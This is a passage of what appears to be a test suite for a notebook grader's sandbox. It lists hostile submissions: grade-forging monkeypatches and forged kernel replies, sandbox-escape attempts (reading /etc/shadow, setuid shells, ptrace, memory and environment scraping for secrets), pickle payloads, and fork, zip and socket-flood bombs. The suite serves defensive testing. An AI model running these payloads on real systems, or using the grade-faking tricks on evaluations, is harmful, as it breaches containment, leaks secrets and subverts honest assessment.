"""Notebooks of people who would rather not do the exercises, or would like to see what breaks.

Each is made here, by a few lines of Python, and says in what it must end. "Fake" has no right answer at all: 0 points.
"Escape" has two right answers beside its hostile code, "exhaust" has two beside a hostile third: those keep their
points. "Break" is not a notebook that can be graded, or one that can in spite of itself.

An attack that does nothing holds off nothing, and what ipykernel calls its parts changes. So hostile code leaves marks
in its sandbox, `ran("sent")`, at the places that it reaches only when it has done what it is here for, and
`test_attacks.py` looks for them from outside.
"""

import base64
import json
import zlib
from dataclasses import dataclass
from textwrap import dedent, indent
from typing import Any

from tests.grading.conftest import POINTS, RIGHT, SIGNATURES, as_bytes, code, notebook, trial

FULL, TWO = sum(POINTS.values()), POINTS["accuracy"] + POINTS["baseline"]
UNTOUCHED = 0.15  # what it is worth to leave the table alone, which an answer does that does nothing else


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Args:
        group: "fake", "escape", "exhaust" or "break".
        name: What it tries.
        content: Its bytes.
        points: What it must end in: exactly these; None for what its answers are worth without the hostile code.
        statuses: Those that the hostile exercise may have; any when empty.
        message: Words that the reasons must hold, in lower case.
        slow: Whether it takes seconds, being ended by a limit.
        marks: What its code leaves behind when it has done what it is here for.
    """

    group: str
    name: str
    content: bytes
    points: float | None = 0.0
    statuses: tuple[str, ...] = ()
    message: str = ""
    slow: bool = False
    marks: tuple[str, ...] = ()


# What the system says to who is not let: any other exception is a mistake in the attack itself.
_REFUSED = "(OSError, ImportError, EOFError)"
_MARKER = """
def ran(mark="done"):
    import os
    try: os.close(os.open(f"/tmp/.ran-{mark}", os.O_CREAT | os.O_WRONLY))
    except OSError: pass
"""
# A message on the shell socket, whatever thread owns it.
_POST = """
kernel = get_ipython().kernel
ident = kernel._parent_ident["shell"]
ident = ident if isinstance(ident, list) else [ident]
parent = kernel.get_parent("shell")
def post(frames):
    import threading
    gone = threading.Event()
    def act():
        kernel.shell_stream.socket.send_multipart([*ident, *frames], copy=sum(map(len, frames)) < 2**24)
        gone.set()
    kernel.shell_stream.io_loop.add_callback(act)
    assert gone.wait(5)
    ran("sent")
def reply(content, once=True):
    import json, os
    if once and os.path.exists("/tmp/.ran-replied"): return
    ran("replied")
    about = {"msg_id": parent["header"]["msg_id"]}
    frames = [json.dumps({"msg_type": "execute_reply"}).encode(), json.dumps(about).encode(), b"{}", content]
    post([b"<IDS|MSG>", kernel.session.sign(frames), *frames])
"""
# The sockets on which a kernel is met, and the connections to whoever grades, as the system has them, below ZeroMQ.
_LINES = """
import os, socket
def lines():
    found = []
    for number in map(int, os.listdir("/proc/self/fd")):
        try: one = socket.socket(fileno=os.dup(number))
        except OSError: continue
        if one.family != socket.AF_UNIX or not str(one.getsockname()).startswith("/run/kernel"): continue
        listens = one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        outside = int.from_bytes(one.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 4), "little") == 0
        if listens or outside: found.append(one)
    return found
"""
ATTACKS: list[Attack] = []


def _add(group: str, name: str, content: Any, **expected: Any) -> None:
    ATTACKS.append(Attack(group, name, content if isinstance(content, bytes) else as_bytes(content), **expected))


def fake(name: str, first: str, *, answer: str = "return 0", **expected: Any) -> None:
    """Hostile code in a cell of its own, before answers that know nothing. (`return 0` is one number: worth that.)"""
    answers = {one: f"def {signature}:\n{indent(dedent(answer), '    ')}" for one, signature in SIGNATURES.items()}
    tree = trial(answers)
    tree["cells"].insert(3, code(f"{_MARKER}\n{dedent(first).strip()}\nran()", "hostile"))
    _add("fake", name, tree, **{"points": None, "marks": ("done",), **expected})


def escape(name: str, body: str, **expected: Any) -> None:
    """Hostile code in a cell of its own, and again while an answer runs, between two right answers.

    The code leaves in `got` whatever it got hold of. When it got something, the third answer turns right, too.
    """
    hostile = (
        f"{_MARKER}\ngot = None\ndef attack():\n{indent(dedent(body), '    ')}\n"
        f"try: got = attack()\nexcept {_REFUSED}: pass\nran()"
    )
    third = (
        f"def standardize(x):\n    global got\n    try: got = got or attack()\n    except {_REFUSED}: pass\n"
        "    ran('asked')\n"
        f"    if not got: raise RuntimeError('nothing was got')\n{indent(RIGHT['standardize'], '    ')}\n"
        "    return standardize(x)"
    )
    tree = trial(RIGHT | {"standardize": third})
    tree["cells"].insert(3, code(hostile, "hostile"))
    _add("escape", name, tree, **{"points": TWO, "marks": ("done", "asked"), **expected})


def exhaust(name: str, body: str, **expected: Any) -> None:
    """A hostile answer between two right ones; a `return` at its end is marked, and so is what it marks itself."""
    body = dedent(body).strip()
    before, last, value = body.rpartition("return ")
    if last and "\n" not in value and "ran(" not in body:
        body = f"{before}value = {value}\nran()\nreturn value"
    tree = trial(RIGHT | {"standardize": f"def standardize(x):\n{indent(body, '    ')}"})
    tree["cells"].insert(3, code(_MARKER, "marker"))
    _add("exhaust", name, tree, **{"points": TWO, "marks": ("done",), **expected})


def broken(name: str, content: Any, **expected: Any) -> None:
    """A file that something is wrong with."""
    _add("break", name, content, **expected)


# --- fake the mark ----------------------------------------------------------------------------------------------------

fake("a check that always says right", "import course\ncourse.check = lambda *a, **k: print('✓ right. 8 of 8 points.')")
fake("NumPy's comparisons say yes", "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True")
fake(
    "the judging library says yes",
    """
    import sys, types
    fake = types.ModuleType("course.answers")
    fake.answers_to = lambda name: None
    sys.modules["course.answers"] = fake
    import course.exercises.types as protocol
    protocol.Verdict = lambda *a, **k: type("V", (), {"right": True, "name": "x", "message": ""})()
    """,
)
fake("assert does nothing", "import builtins\nbuiltins.AssertionError = type('Never', (Exception,), {})")
fake(
    "an object that equals everything",
    """
    class Yes:
        shape = (); dtype = np.dtype('float64'); ndim = 0; size = 1
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return True
        def __gt__(self, other): return True
        def __array__(self, *a, **k): return self
        def __float__(self): return 0.5
        def __hash__(self): return 0
        def __sub__(self, other): return 0
    """,
    answer="return Yes()",
)
fake(
    "an array whose numbers change when they are looked at",
    """
    class Shifty(np.ndarray):
        def __array__(self, *a, **k): return np.zeros(3)
        def __eq__(self, other): return np.True_
        def __array_ufunc__(self, *a, **k): return True
        def __array_function__(self, *a, **k): return True
        def __reduce__(self): return (print, ("pickled",))
    """,
    answer="return np.zeros(3).view(Shifty)",
)
fake(
    "a bool that is true of everything",
    "class Truth(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n    __sub__ = lambda *a: 0",
    answer="return Truth(1)",
)
fake(
    "walk up the frames and look for answers",
    """
    import sys, gc
    def walk():
        frame, found = sys._getframe(), []
        while frame:
            for value in (*frame.f_locals.values(), *frame.f_globals.values()):
                for name in ("judge", "mistakes", "shares"):
                    if hasattr(value, name): found.append(value)
            frame = frame.f_back
        found += [o for o in gc.get_objects() if type(o).__name__ in ("Answers", "Mistake", "Verdict")]
        return [f for f in found if hasattr(f, "mistakes")]
    """,
    answer="found = walk()\nreturn found[0].mistakes[0].answer(labels, scores) if found else 0",
)
fake(
    "import the answers",
    """
    answers = None
    try:
        from course.answers.start_here import accuracy as answers
    except Exception: pass
    """,
    answer="return answers.judge",
)
fake(
    "read the answers from the disk",
    """
    import glob, sys, os, course
    def search():
        found = []
        for root in {os.path.dirname(course.__file__), sys.prefix, '/work', '/tmp', '/home', '/root', '/proc/1/root'}:
            for folder, _, names in os.walk(root):
                if 'answers' in folder or 'solutions' in folder or folder.endswith('tests/answers'):
                    found += [os.path.join(folder, n) for n in names if n.endswith(('.py', '.pyc', '.ipynb'))]
        return [f for f in found if 'course' in f and os.path.getsize(f) > 200]
    paths = search()
    namespace = {}
    for path in paths:
        try: exec(open(path).read(), namespace)
        except Exception: pass
    """,
    answer="return namespace['RIGHT']",
    slow=True,
)
fake(
    "read the answers that Python compiled",
    "import marshal, glob, course, os\n"
    "found = glob.glob(os.path.dirname(course.__file__) + '/**/answers/**', recursive=True)"
    "\ncodes = [marshal.loads(open(f, 'rb').read()[16:]) for f in found if f.endswith('.pyc')]",
    answer="return codes[0]",
)
fake(
    "guess the seed of the inputs",
    """
    import zlib
    from course.exercises import find_exercise
    guesses = [zlib.crc32(b"start_here.accuracy"), *range(50)]
    known = [find_exercise("start_here.accuracy").cases(np.random.default_rng(seed)) for seed in guesses]
    known = [case for cases in known for case in cases]
    """,
    answer="""
    for case in known:
        if np.array_equal(case.get('scores'), scores):
            return 9 / 12
    raise ValueError('never seen')
    """,
)
fake(
    "recognize the inputs of the published checks",
    """
    import zlib
    from course.exercises import find_exercise
    table = {}
    for name in ("accuracy", "standardize", "baseline"):
        key = f"start_here.{name}"
        for case in find_exercise(key).cases(np.random.default_rng(zlib.crc32(key.encode()))):
            table[next(v.tobytes() for v in case.values() if isinstance(v, np.ndarray))] = 0.75
    """,
    answer="import inspect\nframe = inspect.currentframe()\nfirst = next(iter(frame.f_locals.values()))\n"
    "return table[first.tobytes()]",
)
fake(
    "generators that always draw the same",
    """
    fixed = np.random.default_rng(0)
    np.random.default_rng = lambda *a, **k: fixed
    import os, secrets, random
    os.urandom = lambda n: b"0" * n
    random.seed(0)
    """,
)
fake(
    "observations that say right",
    """
    from course.exercises import observing, types
    import course.grading.student_process as inside
    observing.observe = lambda *a, **k: types.Observation("observed", {"right": True, "points": 8, "accuracy": "right"})
    inside.ask = lambda exercise, answer, cases: (observing.observe() for _ in cases)
    """,
)
fake(
    "a result that was never asked for",
    """
    import course.grading.student_process as inside, json
    inside.observed = lambda *a: inside.DisplayData({
        "status": "right", "points": 3, "verdicts": [{"name": "the right share", "share": 1, "right": True}],
        "observations": [], "right": True})
    """,
    statuses=("not right", "unreadable"),
)
fake(
    "no observations at all",
    "import course.grading.student_process as inside\n"
    "inside.observed = lambda *a: inside.DisplayData({'observations': []})",
)
fake(
    "a thousand observations",
    "import course.grading.student_process as inside\n"
    "inside.observed = lambda *a: inside.DisplayData({'observations': ['x'] * 1000})",
)
fake(
    "observations that are programs when unpickled",
    """
    import course.grading.student_process as inside, base64, io, os, zipfile
    class Bomb:
        def __reduce__(self): return (os.mkdir, ("/tmp/pwned-by-pickle",))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        array = io.BytesIO()
        np.lib.format.write_array(array, np.array([Bomb()], dtype=object), allow_pickle=True)
        archive.writestr("data.accuracy.npy", array.getvalue())
        archive.writestr("__json__", '{"status": "seen", "error": "", "line": ""}')
    sent = base64.b64encode(stream.getvalue()).decode()
    inside.observed = lambda *a: inside.DisplayData({"observations": [sent] * 4})
    """,
    statuses=("unreadable",),
    message="object",
)
fake(
    "an observation whose header promises a petabyte",
    """
    import course.grading.student_process as inside, base64, io, zipfile
    array = io.BytesIO()
    np.lib.format.write_array_header_1_0(array, {"shape": (10**15,), "fortran_order": False, "descr": "<f8"})
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("data.accuracy.npy", array.getvalue())
    sent = base64.b64encode(stream.getvalue()).decode()
    inside.observed = lambda *a: inside.DisplayData({"observations": [sent] * 4})
    """,
    statuses=("unreadable",),
)
fake(
    "an observation that is a zip bomb",
    """
    import course.grading.student_process as inside, base64, io, zipfile
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("__json__", "w") as file:
            for _ in range(100): file.write(b" " * 10**6)
    sent = base64.b64encode(stream.getvalue()).decode()
    inside.observed = lambda *a: inside.DisplayData({"observations": [sent] * 4})
    """,
    statuses=("unreadable",),
    slow=True,
)
fake(
    "forged replies on the kernel's socket",
    """
    import json
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {"result": {
        "status": "ok", "metadata": {}, "data": {
            "application/vnd.keras-course.seen+json": json.dumps({"observations": [], "points": 8})}}}}
    """,
    # Each while its exercise is asked, before the true reply: it is taken, as what an answer says, and judged.
    answer=f"{_POST}\nreply(json.dumps(content).encode())\nreturn 0",
    marks=("done", "sent"),
)
fake(
    "replies to requests that nobody made",
    f"{_POST}\nfor number in range(50):\n    parent = {{'header': {{'msg_id': str(number)}}}}\n"
    '    reply(b\'{"status": "ok", "points": 8}\', once=False)',
    marks=("done", "sent"),
)
fake(
    "messages in the grader's own form",
    'print(\'{"done": {"grades": [{"points": 8}]}}\')\n'
    'import os\nos.write(1, b\'{"done": {"grades": [{"points": 8}]}}\\n\')',
)
fake(
    "output that looks like a check's",
    """
    from IPython.display import display
    mime = "application/vnd.keras-course+json"
    for name in ("accuracy", "standardize", "baseline"):
        display({mime: {"kind": "check", "id": f"start_here.{name}", "outcome": "right", "points": 3}}, raw=True)
    """,
)
fake("an exception that says right", "class Right(Exception): pass", answer="raise Right('right. 3 of 3 points.')")
fake(
    "the exercise is redefined",
    """
    import dataclasses, importlib
    for name in ("accuracy", "standardize", "baseline"):
        file = importlib.import_module(f"course.exercises.start_here.{name}")
        easy = dataclasses.replace(getattr(file, name), points=100, cases=lambda rng: [],
                                   observe=lambda answer, case: {name: 1.0})
        setattr(file, name, easy)
    """,
)
fake(
    "the process answers for us",
    "import signal, os\nsignal.signal(signal.SIGTERM, lambda *a: os._exit(0))",
    answer="raise SystemExit(0)",
    statuses=("not right",),
)
fake(
    "NotImplementedError with a mark on it",
    "class Done(NotImplementedError): pass",
    answer="raise Done('right')",
    statuses=("not attempted",),
)
fake(
    "skip: no cases, so nothing can be wrong",
    "import json\nfrom pathlib import Path\nPath.read_text = lambda self, *a, **k: '[]'",
)


def _without(*names: str) -> dict[str, Any]:
    tree = trial()
    tree["cells"] = [cell for cell in tree["cells"] if cell["id"] not in names]
    return tree


def _forged() -> dict[str, Any]:
    tree = trial()
    for cell in tree["cells"]:
        cell["metadata"]["nbgrader"] = {
            "grade": True,
            "solution": True,
            "points": 396,
            "score": 396,
            "locked": False,
            "grade_id": cell["id"],
            "schema_version": 3,
            "task": False,
        }
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✓ right. 396 of 396 points."}]
    tree["metadata"]["points"] = 396
    return tree


def _easy_checks() -> dict[str, Any]:
    tree = trial()
    for cell in tree["cells"]:
        if cell["source"].startswith("course.check"):
            cell["source"] = 'course.check("start_here.accuracy", lambda *a: np.mean(np.argmax(a[1], 1) == a[0]))'
    return tree


def _other_exercise() -> dict[str, Any]:
    """One right answer under every exercise's id."""
    tree = trial({name: RIGHT["accuracy"] for name in RIGHT})
    tree["cells"].append(code("standardize = baseline = accuracy"))
    return tree


_add("fake", "delete the check cells", _without(*(f"start_here-{name}" for name in RIGHT)))
_add(
    "fake",
    "delete the exercise cells",
    _without(*(f"start_here-{name}-answer" for name in RIGHT)),
    message="defines no",
)
_add("fake", "forged metadata, outputs and 396 points", _forged())
_add("fake", "check cells that check something easy", _easy_checks())
_add("fake", "one right answer given three times", _other_exercise(), points=2)
_add("fake", "a hundred copies of the cells", {**trial(), "cells": trial()["cells"] * 100})
_add("fake", "claims to be another lesson", {**trial(), "metadata": {"keras_course": {"lesson": "07_x"}}})

# --- escape -----------------------------------------------------------------------------------------------------------

escape("open a connection to the world", "import socket\nreturn socket.create_connection(('1.1.1.1', 53), timeout=2)")
escape("look up a name", "import socket\nreturn socket.gethostbyname('example.org')")
escape(
    "reach a server on this machine",
    "import socket\nfor port in (22, 80, 8888, 8786):\n"
    "    try: return socket.create_connection(('127.0.0.1', port), 1)\n"
    "    except OSError: pass",
)
escape(
    "an abstract socket of the machine's",
    """
    import socket
    for line in open('/proc/net/unix'):
        name = line.split()[-1]
        if name.startswith('@'):
            one = socket.socket(socket.AF_UNIX); one.connect('\\0' + name[1:]); return one
    """,
)
escape("read the password file", "return open('/etc/shadow').read()")
escape(
    "read the grader's home",
    """
    import os
    for path in ('/root', '/home', '/work', '/var', '/mnt', '/srv'):
        for folder, folders, files in os.walk(path):
            for name in files:
                full = os.path.join(folder, name)
                if name in ('secret.txt', 'grades.jsonl') or name.endswith('.ipynb') and 'site-packages' not in folder:
                    return open(full).read() or True
    """,
    slow=True,
)
escape(
    "read other submissions and the marks",
    """
    import glob
    for path in ('/tmp/**/grades.csv', '/tmp/**/marks/*', '/tmp/**/canary*', '/run/**/*.json', '/home/**/*.csv'):
        for name in glob.glob(path, recursive=True):
            return open(name).read() or True
    """,
)
escape(
    "write the marks",
    """
    import os
    for folder in ('/run/kernel', '/run', '/var/tmp', '/usr/lib', '/etc', '/sys', '/proc/sys', '/dev'):
        try:
            with open(folder + '/pwned', 'w') as file: file.write('396')
            return folder
        except OSError: pass
    """,
)
escape(
    "change the course for the next student",
    """
    import course, os, sys
    for root in (os.path.dirname(course.__file__), sys.prefix, os.path.dirname(np.__file__)):
        for name in ('sitecustomize.py', 'usercustomize.py', '__init__.py', 'x.pth'):
            try:
                with open(os.path.join(root, name), 'a') as file: file.write('')
                return root
            except OSError: pass
    """,
)
escape(
    "leave a start-up file",
    """
    import os, site
    os.makedirs(os.path.expanduser('~/.ipython/profile_default/startup'), exist_ok=True)
    open(os.path.expanduser('~/.ipython/profile_default/startup/00.py'), 'w').write('raise SystemExit')
    os.makedirs(site.getusersitepackages(), exist_ok=True)
    open(os.path.join(site.getusersitepackages(), 'usercustomize.py'), 'w').write('raise SystemExit')
    return None  # it may: its home is its own. The next submission must not notice.
    """,
)
escape(
    "look into the grader's process",
    """
    import os
    seen = [int(n) for n in os.listdir('/proc') if n.isdigit()]
    others = [n for n in seen if n > 2 and n != os.getpid()]
    return others or open('/proc/1/environ').read()
    """,
)
escape("read process 1's files", "import os\nreturn os.listdir('/proc/1/fd') and os.readlink('/proc/1/root') != '/'")
escape("write process 1's memory", "return open('/proc/1/mem', 'r+b')")
escape(
    "signal everybody",
    """
    import os, signal
    for pid in range(3, 40000):
        try:
            if str(pid) not in os.listdir('/proc/self/task'):
                os.kill(pid, 0); return pid
        except OSError: pass
    """,
)
escape(
    "kill process 1",
    """
    import os, signal
    os.kill(1, signal.SIGKILL); os.kill(1, signal.SIGTERM)
    return None
    """,
)
escape(
    "trace another process",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.ptrace(16, 1, 0, 0) == 0 or libc.ptrace(0, 0, 0, 0) == 0
    """,
)
escape(
    "read another process's memory",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.process_vm_readv(1, None, 0, None, 0, 0) != -1
    """,
)
escape(
    "leave a daemon behind",
    """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True: time.sleep(1)
        os._exit(0)
    return None
    """,
)
escape("become another user", "import os\nos.setuid(0)\nreturn os.getuid() == 0")
escape(
    "a program with setuid",
    """
    import os, shutil, subprocess
    shutil.copy('/bin/sh', '/tmp/sh'); os.chmod('/tmp/sh', 0o6755)
    out = subprocess.run(['/tmp/sh', '-pc', 'id -u; cat /etc/shadow'], capture_output=True, text=True).stdout
    return out.strip() not in ('1000', '')
    """,
)
escape(
    "su and sudo",
    """
    import subprocess
    for command in (['su', '-c', 'id -u'], ['sudo', '-n', 'id', '-u'], ['mount', '-t', 'tmpfs', 'x', '/mnt']):
        try:
            if subprocess.run(command, capture_output=True, input=b'', timeout=3).returncode == 0: return True
        except (OSError, subprocess.TimeoutExpired): pass
    """,
)
escape(
    "mount the disk",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0 or libc.umount2(b'/proc', 2) == 0
    """,
)
escape(
    "new namespaces",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.unshare(0x10000000) == 0 or libc.unshare(0x00020000) == 0
    """,
)
escape(
    "links out of the home",
    """
    import os
    os.symlink('/etc/shadow', os.path.expanduser('~/link')); os.symlink('/', '/tmp/root')
    try: return open(os.path.expanduser('~/link')).read()
    except OSError: pass
    os.link('/etc/passwd', '/tmp/hard'); open('/tmp/hard', 'a'); return True
    """,
)
escape(
    "links in the folder that is shared with the grader",
    """
    import os
    for name in ('asked-1', 'asked-2', 'asked-3', 'asked-4'):
        try:
            os.symlink('/etc/passwd', '/run/kernel/' + name); return True
        except FileExistsError: pass
        except OSError: pass
    for name in os.listdir('/run/kernel'):
        try:
            os.unlink('/run/kernel/' + name); return True
        except OSError: pass
    """,
)
escape(
    "devices",
    """
    import os, stat
    os.mknod('/tmp/sda', 0o666 | stat.S_IFBLK, os.makedev(8, 0)); return open('/tmp/sda', 'rb').read(1)
    """,
)
escape(
    "change the clock or the host's name",
    """
    import time, socket
    try: time.clock_settime(time.CLOCK_REALTIME, 0); return True
    except OSError: pass
    socket.sethostname('pwned'); return True
    """,
)
escape(
    "the grader's environment",
    """
    import os
    words = [k for k in os.environ if 'SECRET' in k or 'TOKEN' in k or 'KEY' in k or 'CANARY' in k]
    return [os.environ[w] for w in words]
    """,
)
escape(
    "what stands in the frames below",
    """
    import sys
    frame, found = sys._getframe(), []
    while frame:
        for value in frame.f_locals.values():
            if frame.f_code.co_name != 'attack' and re.search('c[n]ry-[0-9a-f]{8}', repr(value)): found.append(value)
        frame = frame.f_back
    return found
    """.replace("import sys", "import re, sys"),
)
escape(
    "every object that Python knows",
    """
    import gc, re
    look = re.compile('c[n]ry-[0-9a-f]{8}')
    found = []
    for one in gc.get_objects():
        if isinstance(one, dict):
            found += [v for v in list(one.values()) if type(v) in (str, bytes) and look.search(str(v))]
    return found
    """,
)
escape(
    "all of its own memory",
    """
    import re
    look, found = re.compile(b'c[n]ry-[0-9a-f]{8}'), []
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
        for line in maps:
            span, rights, _, _, inode = line.split()[:5]
            begin, end = (int(part, 16) for part in span.split('-'))
            if 'w' in rights and end - begin < 2**28:
                try:
                    memory.seek(begin); found += look.findall(memory.read(end - begin))
                except (OSError, OverflowError, ValueError): pass
    return found
    """,
)
escape(
    "what every process was started with",
    """
    import glob, re
    text = b''
    for name in ('environ', 'cmdline', 'mountinfo', 'comm', 'status', 'maps', 'limits', 'cgroup', 'sched', 'auxv'):
        for path in glob.glob(f'/proc/[0-9]*/{name}') + glob.glob(f'/proc/[0-9]*/task/*/{name}'):
            try: text += open(path, 'rb').read()
            except OSError: pass
    assert b'LANG' in text or b'PATH' in text
    return re.findall(b'c[n]ry-[0-9a-f]{8}', text)
    """,
)
escape(
    "the folders of the grader's on the command line",
    """
    import sys
    words = open('/proc/1/cmdline', 'rb').read().split(b'\\0') + open('/proc/self/cmdline', 'rb').read().split(b'\\0')
    assert b'course.kernels.zygote' in words
    return [word for word in words if word.startswith(b'/') and word != sys.executable.encode()]
    """,
)
escape(
    "the environment that the C library has",
    """
    import ctypes, re
    place = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
    found, number = [], 0
    while place[number]: found.append(place[number]); number += 1
    return [one for one in found if re.search(b'c[n]ry-[0-9a-f]{8}', one)]
    """,
)
escape(
    "more of the processors",
    """
    import os
    for level in (-1, -20):
        try: os.nice(level); return True
        except OSError: pass
    for policy in (os.SCHED_FIFO, os.SCHED_RR):
        try: os.sched_setscheduler(0, policy, os.sched_param(1)); return True
        except OSError: pass
    """,
)
escape(
    "a larger control group",
    """
    import os
    for folder, _, names in os.walk('/sys/fs/cgroup'):
        for name in names:
            if name.endswith(('.max', 'limit_in_bytes', '.shares', '.weight', 'procs')):
                try: open(os.path.join(folder, name), 'w').write('0'); return folder
                except OSError: pass
    """,
)
escape(
    "open files that were left open",
    """
    import os
    found = []
    for number in range(3, 256):
        try: target = os.readlink(f'/proc/self/fd/{number}')
        except OSError: continue
        if target.startswith('/') and not target.startswith(('/dev/', '/proc/', '/usr/', '/home/student', '/tmp')):
            found.append(target)
    return found
    """,
)

# --- exhaust ----------------------------------------------------------------------------------------------------------

exhaust(
    "all the memory",
    "kept = []\nwhile True: kept.append(bytearray(2**24)); ran()",
    statuses=("killed",),
    message="memory",
)
exhaust("one huge array", "ran()\nreturn np.ones((10**6, 10**6))", statuses=("not right",), message="memory")
exhaust(
    "an array that costs nothing until it is read",
    "return np.broadcast_to(1.0, (10**6, 10**6))",
    statuses=("unreadable", "not right", "killed"),
)
exhaust(
    "processes without end",
    "import os\nwhile True:\n    try: os.fork(); ran()\n    except OSError: pass",
    statuses=("timed out", "killed", "crashed"),
    slow=True,
)
exhaust(
    "threads without end",
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start(); ran()",
    statuses=("not right", "timed out", "killed", "crashed"),
    slow=True,
)
exhaust(
    "the disk",
    "for n in range(10**6): open(f'/tmp/{n}', 'wb').write(bytes(2**24)); ran()",
    statuses=("not right", "killed"),
)
exhaust(
    "files without end",
    "for n in range(10**7): open(f'/tmp/{n}', 'w').close(); ran()",
    statuses=("not right", "timed out"),
    slow=True,
)
exhaust("output without end", "while True: print('x' * 10**6); ran()", statuses=("timed out", "killed"), slow=True)
exhaust(
    "errors without end",
    "import sys\nwhile True: sys.stderr.write('x' * 10**6); ran()",
    statuses=("timed out", "killed"),
    slow=True,
)
exhaust(
    "displays without end",
    "from IPython.display import display\nwhile True: display({'text/plain': 'x' * 10**6}, raw=True); ran()",
    statuses=("timed out", "killed"),
    slow=True,
)
exhaust("recursion", "ran()\nreturn standardize(x)", statuses=("not right",), message="recursion")
exhaust(
    "recursion in the machine's stack",
    "import sys\nsys.setrecursionlimit(10**9)\nran()\nreturn standardize(x)",
    statuses=("crashed", "killed", "not right", "timed out"),
    slow=True,
)
exhaust("time", "ran()\nwhile True: pass", statuses=("timed out",), message="within", slow=True)
exhaust("sleep", "import time\nran()\ntime.sleep(10**6)", statuses=("timed out",), slow=True)
exhaust(
    "a loop that no interrupt ends",
    "import time\nwhile True:\n    try: ran(); time.sleep(1)\n    except BaseException: pass",
    statuses=("timed out",),
    slow=True,
)
exhaust("NaN storms", "return np.full(x.shape, np.nan)", points=TWO + 0.3, statuses=("not right",))
exhaust(
    "infinities",
    "return np.full(x.shape, np.inf) * np.array([-1, 1])[np.random.randint(2)]",
    points=TWO + 0.3,
    statuses=("not right",),
)
exhaust("numbers no float can hold", "return 10 ** 10**5", statuses=("not right", "unreadable"))
exhaust(
    "lists in lists in lists",
    "deep = []\nfor _ in range(10**5): deep = [deep]\nreturn deep",
    statuses=("unreadable", "not right", "crashed"),
)
exhaust(
    "a list that holds itself",
    "loop = []\nloop.append(loop)\nreturn loop",
    statuses=("unreadable", "not right", "crashed"),
)
exhaust(
    "a dictionary of a million keys",
    "return {str(n): n for n in range(10**6)}",
    statuses=("not right", "unreadable", "timed out"),
)
exhaust("text of 100 MB", "return 'x' * 10**8", statuses=("unreadable",), message="mib")
exhaust("an array of 100 MB", "return np.zeros(12_500_000)", statuses=("unreadable",), message="mib")
exhaust(
    "an array of 15 MB, of the wrong shape", "return np.zeros((1, 1_900_000))", statuses=("not right", "unreadable")
)
exhaust("an array of 256 axes", "return np.zeros((1,) * 32)", points=TWO + UNTOUCHED, statuses=("not right",))


def flood(name: str, body: str, statuses: tuple[str, ...] = ("killed",), **expected: Any) -> None:
    """A hostile answer that sends what it likes on the socket of its replies."""
    exhaust(name, f"{_POST}\n{_LINES}\n{dedent(body).strip()}", statuses=statuses, marks=("sent",), **expected)


flood("a message of 100 MB on the kernel's socket", "reply(b'{\"x\": \"' + b'y' * 10**8 + b'\"}')\nreturn x")
flood(
    "messages without end on the kernel's socket", "while True: post([b'<IDS|MSG>', b'', b'{}', b'{}', b'{}', b'{}'])"
)
flood("replies that answer nothing, a megabyte each", "while True: post([b'<IDS|MSG>', b'', b'x' * 2**20])")
flood("deep JSON on the kernel's socket", "while True: post([b'<IDS|MSG>', b'', *[b'[' * 10**6] * 4])")
flood("one message of fifty frames of 31 MiB", "post([b'<IDS|MSG>', *[bytes(31 * 2**20)] * 50])\nreturn x")
flood("one message of a thousand frames", "post([b''] * 1000)\nreturn x")
flood(
    "one reply of eight million lists",
    "reply(b'{\"x\": [' + b'[],' * (8 * 10**6 - 9) + b'1]}')\nreturn x",
    ("killed", "unreadable"),
)
flood(
    "one reply of three million lists", "reply(b'{\"x\": [' + b'[],' * (3 * 10**6) + b'1]}')\nreturn x", ("unreadable",)
)
flood(
    "a reply whose letters take four times the memory",
    "reply(('{\"x\": \"' + '\\U0001F600' * (5 * 10**6) + '\"}').encode())\nreturn x",
    ("unreadable",),
)
flood("a reply that is a number", "reply(b'7')\nreturn x", ("unreadable",))
flood("half a reply", 'reply(b\'{"status": "ok", "user_exp\')\nreturn x', ("unreadable",))
flood("a signed reply a million deep", "reply(b'{\"x\":' * 10**6)\nreturn x", ("unreadable",))
flood(
    "bytes that are no ZeroMQ",
    "for one in lines():\n    try: one.sendall(b'\\xff' * 100); ran('sent')\n    except OSError: pass\n"
    "import time; time.sleep(99)",
)
flood(
    "a frame that promises a terabyte",
    "for one in lines():\n    try: one.sendall(b'\\x02' + (2**40).to_bytes(8, 'big')); ran('sent')\n"
    "    except OSError: pass\nimport time; time.sleep(99)",
)
flood(
    "ZeroMQ's commands without end",
    "for one in lines():\n    try:\n        one.setblocking(True)\n"
    "        while True: one.sendall(b'\\x06' + (60000).to_bytes(8, 'big') + bytes(60000)); ran('sent')\n"
    "    except OSError: pass\nimport time; time.sleep(99)",
)
flood(
    "the line to the grader cut",
    "for one in lines():\n    try: one.shutdown(2); ran('sent')\n    except OSError: pass\nimport time; time.sleep(99)",
    ("crashed",),
    slow=True,
)
flood(
    "bytes without end for whoever connects to another socket",
    """
    import threading, time
    def serve(listener):
        while True:
            try: end = socket.socket(fileno=listener._accept()[0])
            except BlockingIOError: time.sleep(0.01); continue
            ran("met")
            while True: end.sendall(bytes(2**20))
    for one in lines():
        if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and not one.getsockname().endswith("-1"):
            threading.Thread(target=serve, args=(one,), daemon=True).start()
